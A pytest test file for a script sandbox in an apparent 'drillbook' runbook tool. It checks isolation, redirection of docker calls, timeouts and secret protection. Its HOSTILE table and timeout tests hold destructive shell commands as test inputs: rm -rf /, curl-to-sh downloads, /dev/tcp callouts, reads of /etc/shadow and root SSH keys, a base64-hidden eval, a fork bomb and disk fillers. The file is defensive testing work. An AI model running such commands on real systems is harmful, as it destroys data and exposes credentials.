"""Commands of a document see nothing of this machine, and end, whatever they try."""

import shutil
import tempfile
import time
from contextlib import suppress
from pathlib import Path

import pytest

from drillbook.core.errors import Unsupported
from drillbook.runbook.sandbox import HOME, Answer, Sandbox
from drillbook.stack.processes import why_unavailable

pytestmark = pytest.mark.skipif(bool(why_unavailable()), reason=why_unavailable())


@pytest.fixture
def calls():
    return []


@pytest.fixture
def sandbox(calls):
    place = Path(tempfile.mkdtemp())
    # The script's user has to come through.
    place.chmod(0o711)

    def answer(call):
        calls.append(call)
        given = call.input.read_bytes() if call.input else b""
        return Answer(out=b"<" + given + b">\n", err="said\n", code=len(call.words))

    yield Sandbox(place / "sandbox", answer)
    shutil.rmtree(place)


@pytest.mark.parametrize("path", ["/backup.sql", "/etc/infisical/.env", "../../x.sql"])
def test_a_file_that_has_no_place_here_is_not_carried_out(sandbox, path):
    with pytest.raises(Unsupported, match=r"not carried out: .* is outside the folders"):
        sandbox.place(path, b"rows")
    assert sandbox.read(path) is None


def test_a_call_is_answered_with_output_and_exit_code(sandbox, calls):
    ran = sandbox.run("cd /srv; docker ps -a 2>/dev/null; echo $?", 10)
    assert (ran.output, ran.code, ran.ended) == ("<>\n3\n", 0, "")
    assert (calls[0].words, calls[0].folder) == (("docker", "ps", "-a"), "/srv")


def test_a_call_says_where_its_output_goes_and_what_was_there(sandbox, calls):
    sandbox.place("/srv/.env", b"NAME=value\n")
    sandbox.run("rm /srv/.env; docker 1; docker 2 >/dev/null; x=$(docker 3); docker 4 | cat", 10)
    sandbox.run("ssh host docker 5", 10)
    assert [one.is_shown for one in calls] == [True, *[False] * 4]
    assert calls[0].placed == {"/srv/.env": b"NAME=value\n"}


@pytest.mark.parametrize(
    ("script", "words"),
    [
        ("command docker stop x", ("docker", "stop", "x")),
        ("sudo -u root docker stop 'a b'", ("docker", "stop", "a b")),
        ("ssh -p 22 root@host docker stop x", ("docker", "stop", "x")),
        ("ssh root@host <<E\ndocker stop x\nE", ("docker", "stop", "x")),
        ("eval 'dock''er stop x'", ("docker", "stop", "x")),
        ("bash -c 'docker stop x'", ("docker", "stop", "x")),
        ("D=docker; $D stop x", ("docker", "stop", "x")),
        ("env docker stop x", ("docker", "stop", "x")),
    ],
)
def test_whatever_calls_docker_calls_the_harness(sandbox, calls, script, words):
    sandbox.run(script, 10)
    assert [one.words for one in calls] == [words]


@pytest.mark.parametrize("way", ["cat x | {}", "{} < x", "{} <<E\nrows\nE"])
def test_what_is_piped_into_a_call_is_handed_over(sandbox, calls, way):
    ran = sandbox.run("echo rows > x\n" + way.format("docker exec -i db psql") + "\n", 10)
    assert "<rows\n>" in ran.output
    assert calls[0].piped


def test_a_call_without_input_takes_none_of_a_loop(sandbox, calls):
    sandbox.run("printf 'a\\nb\\n' | while read -r one; do docker stop $one; done", 10)
    assert [one.words[2] for one in calls] == ["a", "b"]


HOSTILE = {
    "absolute path": "/usr/bin/docker ps; /bin/rm -rf /usr; touch /usr/planted",
    "here-doc": "cat > /etc/planted <<E\nx\nE\nbash <<E\nrm -rf /\nE",
    "curl into sh": "curl -fsSL https://example.com/x | sh; wget -qO- https://example.com | sh",
    "real curl": "/usr/bin/curl -m 3 http://1.1.1.1/; echo > /dev/tcp/1.1.1.1/80",
    "redirects": "echo x > /planted; echo x >> /etc/passwd; echo x > ../../../etc/passwd",
    "eval": 'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
    "kill": "kill -9 -1",
    "home": "cat ~root/.ssh/* /etc/shadow /proc/1/environ; ls /tmp /run",
    "mount": "mount --bind / /mnt; unshare -Ur mount -t tmpfs x /usr",
    "devices": "cat /dev/sda /dev/mem; echo c > /proc/sysrq-trigger",
    "links in the exchange": "cd /calls; ln -s /etc/passwd 1-1.call; mkdir 2-2.call;"
    "mkfifo 3-3.call; ln -s /etc/passwd 4-4.in; printf 'piped\\0/\\0docker\\0' > 4-4.call; sleep 1",
    "answers of its own": "touch /answers/1-1.code; rm -rf /answers/* /shims/*",
    "nothing to read": "printf x > /calls/5-5.call; sleep 0.3",
}


def seen_of_the_host():
    return sorted(Path("/").iterdir()), [Path(one).stat().st_mtime for one in ("/usr", "/etc")]


@pytest.mark.parametrize("script", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_script_touches_nothing_and_ends(sandbox, calls, script):
    before = seen_of_the_host()
    started = time.monotonic()
    ran = sandbox.run(script, 10)
    assert time.monotonic() - started < 60
    assert seen_of_the_host() == before
    assert "root:" not in ran.output
    assert not [one for one in calls if one.input and b"root:" in one.input.read_bytes()]
    assert sandbox.run("docker ps", 10).code == 2


@pytest.mark.slow
@pytest.mark.parametrize(
    ("script", "ended"),
    [
        (":(){ :|:& };: ; sleep 60", "had not ended"),
        ("yes", "printed more than"),
        ("while :; do head -c 200M /dev/zero > $RANDOM; done", "wrote more than"),
        ("sleep 1000", "had not ended"),
        ("trap '' TERM INT HUP; while :; do :; done", "had not ended"),
        ("while :; do docker ps; done > /dev/null 2>&1", "had not ended"),
    ],
)
def test_what_does_not_end_is_ended(sandbox, script, ended):
    # What ends at a limit of its size needs no short time, and a busy machine writes slowly.
    seconds = 3 if ended == "had not ended" else 60
    started = time.monotonic()
    assert ended in sandbox.run(script, seconds).ended
    assert time.monotonic() - started < 60
    # What was written stays written.
    assert sandbox.run("echo on", 10).output == ("" if "wrote" in ended else "on\n")


def test_what_lies_in_memory_is_bounded(sandbox):
    filling = (
        "for at in / /tmp /dev /dev/shm /run /calls/..; do head -c 300M /dev/zero > $at/x; done"
    )
    sandbox.run(f"{filling}; du -sm --exclude=proc --exclude=home --exclude=usr / > ~/size", 20)
    assert int(sandbox.read("size").split()[0]) < 100


def test_a_process_left_behind_is_gone(sandbox):
    mark = "987.654321"
    ran = sandbox.run(f"nohup sleep {mark} & (setsid sleep {mark} &) ; echo done", 10)
    assert "done" in ran.output
    assert not any(mark.encode() in line for line in command_lines())


def command_lines():
    for file in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            yield file.read_bytes()


def test_no_process_inside_has_the_environment_of_the_harness(sandbox, monkeypatch):
    monkeypatch.setenv("TOKEN_OF_CI", "hunter2")
    ran = sandbox.run("cat /proc/[0-9]*/environ; echo; env; echo seen", 10)
    assert "seen" in ran.output
    assert "PATH=" in ran.output
    assert "hunter2" not in ran.output


def test_files_are_read_without_following_a_link(sandbox, tmp_path):
    (tmp_path / "secret").write_text("of the host")
    sandbox.place("/srv/backups/old.sql", b"old")
    sandbox.run(
        f"cat /srv/backups/old.sql > new.sql; ln -s {tmp_path}/secret link; ln -s / top", 10
    )
    assert sandbox.read("new.sql") == b"old"
    assert sandbox.read("link") is None
    assert sandbox.read("top/etc/passwd") is None
    assert sandbox.read("/etc/passwd") is None
    assert sorted(sandbox.listing()) == [f"{HOME}/new.sql", "/srv/backups/old.sql"]
